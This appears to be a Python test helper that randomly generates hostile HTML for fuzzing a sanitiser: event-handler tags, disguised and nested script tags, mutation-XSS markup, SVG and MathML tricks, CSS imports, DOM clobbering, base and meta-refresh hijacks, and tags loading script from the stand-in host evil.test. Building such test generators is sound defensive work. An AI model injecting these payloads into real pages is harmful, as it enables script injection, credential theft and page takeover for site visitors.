"""Raw HTML as attackers write it: handlers, addresses, and markup that is read differently the second time."""

from collections.abc import Callable, Sequence
from random import Random

from tests.hostile.handlers import HANDLERS
from tests.hostile.pieces import (
    CHARACTERS,
    CLOBBERING,
    PAYLOADS,
    QUOTES,
    SPACES,
    SPECIAL,
    TAGS,
    URL_ATTRIBUTES,
    address,
    disguised,
)


def handler(chance: Random, name: str | None = None) -> str:
    """Return a tag with an event handler."""
    tag, quote, space = chance.choice(TAGS), chance.choice(QUOTES), chance.choice(SPACES)
    name = name or chance.choice(HANDLERS)
    written = disguised(chance, name) if chance.random() < 0.3 else name
    extra = chance.choice(
        ("", " src=x", " autofocus tabindex=1", " open", " href=x", " style=animation-name:x", " controls")
    )
    end = chance.choice((">", "/>", "", "//", " x>", "\n>"))
    equals = chance.choice(("=", " = ", "=\n"))
    return f"<{tag}{space or ' '}{written}{equals}{quote}{chance.choice(PAYLOADS)}{quote}{extra}{end}"


def addressed(chance: Random) -> str:
    """Return a tag with an address in one of the attributes that hold one."""
    quote = chance.choice(QUOTES)
    return f"<{chance.choice(TAGS)} {chance.choice(URL_ATTRIBUTES)}={quote}{address(chance)}{quote}>click"


def script(chance: Random) -> str:
    """Return a script in one of the ways in which it is not always seen."""
    payload = chance.choice(PAYLOADS)
    name = disguised(chance, "script") if chance.random() < 0.4 else "script"
    return chance.choice(
        (
            f"<{name}>{payload}</{name}>",
            f"<{name}{chance.choice(SPACES)}src=//evil.test/x.js></{name}>",
            f"<{name} type=module>{payload}</{name}>",
            f"<scr<script>ipt>{payload}</scr</script>ipt>",
            f"<{name}\n>{payload}",
            f"<svg><{name}>{payload}</{name}></svg>",
            f"<svg><{name} href=data:,{payload} /></svg>",
            f"<{name}/{chance.choice(CHARACTERS)}>{payload}</{name}>",
            f"<![CDATA[<{name}>{payload}</{name}>]]>",
            f"<!--><{name}>{payload}</{name}-->",
            f"<?xml version='1.0'?><{name}>{payload}</{name}>",
            f"<!DOCTYPE x [<!ENTITY e '<{name}>{payload}</{name}>'>]>&e;",
        )
    )


def mutating(chance: Random) -> str:
    """Return nested elements in which a text hides that becomes markup when it is written out and read again."""
    chain = [chance.choice(SPECIAL) for _ in range(chance.randrange(2, 7))]
    opened = "".join(f"<{disguised(chance, tag) if chance.random() < 0.1 else tag}>" for tag in chain)
    raw = chance.choice(("style", "title", "noscript", "xmp", "textarea", "iframe", "noembed", "noframes", "script"))
    inner = f"<img src=x {chance.choice(HANDLERS)}={chance.choice(PAYLOADS)}>"
    hidden = chance.choice(
        (
            f'<{raw}><a title="</{raw}>{inner}">',
            f"<{raw}><!--</{raw}>{inner}-->",
            f'<!--<{raw}>--><p title="--&gt;{inner}">',
            f"<{raw}>&lt;/{raw}&gt;{inner}",
            f'<a id="</{raw}>{inner}">',
            f"<![CDATA[</{raw}>{inner}]]>",
            f"<!--{inner}--!>{inner}",
            f'<p title="&lt;/{raw}&gt;{inner}">',
        )
    )
    closed = "".join(f"</{tag}>" for tag in (reversed(chain) if chance.random() < 0.5 else chain))
    return opened + hidden + closed


def drawing(chance: Random) -> str:
    """Return SVG that moves an address or a handler to where it counts."""
    payload, moving = chance.choice(PAYLOADS), chance.choice(("animate", "set"))
    return chance.choice(
        (
            f"<svg><a><{moving} attributeName=href values={address(chance)} /><text>x</text></a></svg>",
            f"<svg><use href='data:image/svg+xml,<svg id=x onload={payload}>#x'/></svg>",
            f"<svg><animate onbegin={payload} attributeName=x dur=1s>",
            f"<svg><foreignObject><iframe srcdoc='<script>{payload}</script>'></foreignObject></svg>",
            f"<svg><style>@import '//evil.test/x.css';{{}}*{{background:url({address(chance)})}}</style></svg>",
            f"<math href={address(chance)}>x</math>",
            f"<math><maction actiontype=statusline#http://x xlink:href={address(chance)}>x</maction></math>",
        )
    )


def styled(chance: Random) -> str:
    """Return a style that loads, runs or covers the page."""
    return chance.choice(
        (
            f"<div style=\"background:url('{address(chance)}')\">x</div>",
            f"<style>@import url({address(chance)});</style>",
            f'<p style="width:expression({chance.choice(PAYLOADS)})">x</p>',
            "<div style=position:fixed;inset:0;z-index:9999>cover</div>",
            f'<p style="-moz-binding:url({address(chance)}#x);behavior:url(x.htc)">x</p>',
            "<link rel=stylesheet href=//evil.test/x.css>",
            "<link rel=preload as=script href=//evil.test/x.js>",
        )
    )


def taking_over(chance: Random) -> str:
    """Return an element that changes what the page around it is."""
    name = chance.choice(CLOBBERING)
    return chance.choice(
        (
            f"<base href={address(chance)}>",
            f"<meta http-equiv=refresh content='0;url={address(chance)}'>",
            "<meta http-equiv=content-security-policy content=\"script-src 'unsafe-inline'\">",
            f"<form id={name} action={address(chance)}><input name={name}><button formaction={address(chance)}></form>",
            f"<a id={name}><a id={name} name={chance.choice(CLOBBERING)} href={address(chance)}>",
            f"<img name={name}><iframe name={name} srcdoc=x></iframe>",
            f"<object data={address(chance)}></object><embed src={address(chance)}>",
            "</div></main></body></html><script>tripped()</script>",
            "</p></div></div><div class=banner>Approved by everybody</div>",
            f"<template shadowrootmode=open><script>{chance.choice(PAYLOADS)}</script></template>",
            "<plaintext>",
            "<!--",
            "<title>",
            "<textarea>",
            "<select><option>",
            f"<input type=hidden name=csrf_token value=x form={name}>",
            f"<div is=x-y slot=x popover id={name} data-sign-out data-bell=//evil.test data-slash>x</div>",
        )
    )


Maker = Callable[[Random], str]
MARKUP: Sequence[Maker] = (handler, handler, addressed, script, mutating, mutating, drawing, styled, taking_over)


def markup(chance: Random) -> str:
    """Return one piece of raw HTML."""
    return chance.choice(MARKUP)(chance)
